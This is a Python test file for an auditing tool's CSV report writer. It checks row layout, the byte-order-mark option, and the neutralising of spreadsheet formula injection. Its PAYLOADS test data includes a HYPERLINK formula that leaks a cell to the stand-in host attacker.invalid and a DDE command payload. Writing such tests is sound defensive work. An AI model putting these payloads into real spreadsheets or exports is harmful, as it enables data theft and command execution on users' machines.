"""CSV: RFC 4180 through the csv module, one row per finding, formula injection neutralised."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from auditor.core.reportdoc import TypedReport
from auditor.report import REPORTERS, RenderOptions
from auditor.report.csv_report import COLUMNS, neutralise
from tests.conftest import DEMO

REQUIRED = (
    "time",
    "organisation",
    "category",
    "operation",
    "kind",
    "outcome",
    "pack",
    "rule",
    "severity",
    "file",
    "record",
    "frames",
    "faces",
    "persons",
)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_demo_rows_and_columns(demo_report: dict[str, Any]) -> None:
    text = REPORTERS["csv"].render(TypedReport.of(demo_report), RenderOptions())
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    table = rows(text)
    assert tuple(table[0]) == COLUMNS
    assert set(REQUIRED) <= set(COLUMNS)
    assert len(table) == 1 + len(demo_report["findings"])
    first = dict(zip(COLUMNS, table[1], strict=True))
    finding = demo_report["findings"][0]
    assert first["finding_id"] == finding["id"]
    assert first["time"] == finding["events"][0]["time"]
    assert first["faces"] == str(sum(fr["faces"] for fr in finding["frames"]))
    assert first["frames"] == str(len(finding["frames"]))


def test_neutralise() -> None:
    for raw in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(raw) == "'" + raw
    for plain in ("police", "a=b", "", None, 3):
        assert neutralise(plain) == ("" if plain is None else str(plain))


PAYLOADS = {
    "principal": '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")',
    "organisation": "+SUM(1,2)",
    "event_id": "@cmd|' /C calc'!A0",
    "case_ref": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _injection_bundle(root: Path) -> Path:
    (root / "logs").mkdir(parents=True)
    (root / "principals.toml").write_text(
        "[[principal]]\n"
        f"name = '''{PAYLOADS['principal']}'''\n"
        f"organisation = '''{PAYLOADS['organisation']}'''\n"
        'category = "police"\n',
        encoding="utf-8",
    )
    import json

    record = {
        "time": "2023-05-02T08:00:00Z",
        "principal": PAYLOADS["principal"],
        "service": "rekognition",
        "operation": "SearchFacesByImage",
        "event_id": PAYLOADS["event_id"],
        "case_ref": PAYLOADS["case_ref"],
        "purpose": 'line one\nline "two", with comma',
    }
    second = {**record, "event_id": PAYLOADS["tab"], "time": "2023-05-03T08:00:00Z"}
    third = {**record, "event_id": PAYLOADS["cr"], "time": "2023-05-04T08:00:00Z"}
    (root / "logs" / "ops.jsonl").write_text(
        "\n".join(json.dumps(r) for r in (record, second, third)) + "\n", encoding="utf-8"
    )
    return root


def test_formula_injection_from_log_fields(tmp_path: Path, run_cli: Callable[..., Any]) -> None:
    bundle = _injection_bundle(tmp_path / "bundle")
    out = tmp_path / "report.csv"
    result = run_cli(
        "audit",
        bundle,
        "--no-store",
        "--no-frames",
        "--policy",
        "amazon-rekognition-police-2020",
        "-f",
        "csv",
        "-o",
        out,
    )
    assert result.exit_code == 1, result.stderr
    table = rows(out.read_bytes().decode("utf-8"))
    assert len(table) == 4
    for line in table[1:]:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
        row = dict(zip(COLUMNS, line, strict=True))
        assert row["principal"] == "'" + PAYLOADS["principal"]
        assert row["organisation"] == "'" + PAYLOADS["organisation"]
        assert row["message"].startswith("'+SUM(1,2) (police) ran SearchFacesByImage")
    event_ids = [dict(zip(COLUMNS, line, strict=True))["event_id"] for line in table[1:]]
    assert event_ids == ["'" + PAYLOADS["event_id"], "'" + PAYLOADS["tab"], "'" + PAYLOADS["cr"]]


def test_csv_bom_through_audit_and_report(tmp_path: Path, run_cli: Callable[..., Any]) -> None:
    """`--csv-bom`: the same CSV after a UTF-8 byte order mark, from `audit` and from `report`
    of the stored run; without it there is none; without a CSV format it is a usage error."""
    db = f"sqlite:///{tmp_path / 'audit.db'}"
    plain, bom, again = tmp_path / "plain.csv", tmp_path / "bom.csv", tmp_path / "again.csv"
    args = ("--db", db, "--no-frames", "--policy", "amazon-rekognition-police-2020")
    first = run_cli("audit", DEMO, *args, "-f", "csv", "-o", plain)
    assert first.exit_code == 1, first.stderr
    second = run_cli("audit", DEMO, *args, "-f", "json", "-o", "-", "-f", "csv", "-o", bom,
                     "--csv-bom")  # fmt: skip
    assert second.exit_code == 1, second.stderr
    assert second.stdout.startswith("{")  # the JSON report has no BOM
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert bom.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
    with bom.open(encoding="utf-8-sig", newline="") as fh:  # what a spreadsheet import does
        assert next(csv.reader(fh)) == list(COLUMNS)
    run_id = json.loads(second.stdout)["run"]["id"]
    rendered = run_cli("report", run_id, "--db", db, "-f", "csv", "-o", again, "--csv-bom")
    assert rendered.exit_code == 0, rendered.stderr
    assert again.read_bytes() == bom.read_bytes()
    wrong = run_cli("audit", DEMO, *args, "-f", "json", "--csv-bom")
    assert wrong.exit_code == 2
    assert "--csv-bom applies to the csv format" in wrong.stderr
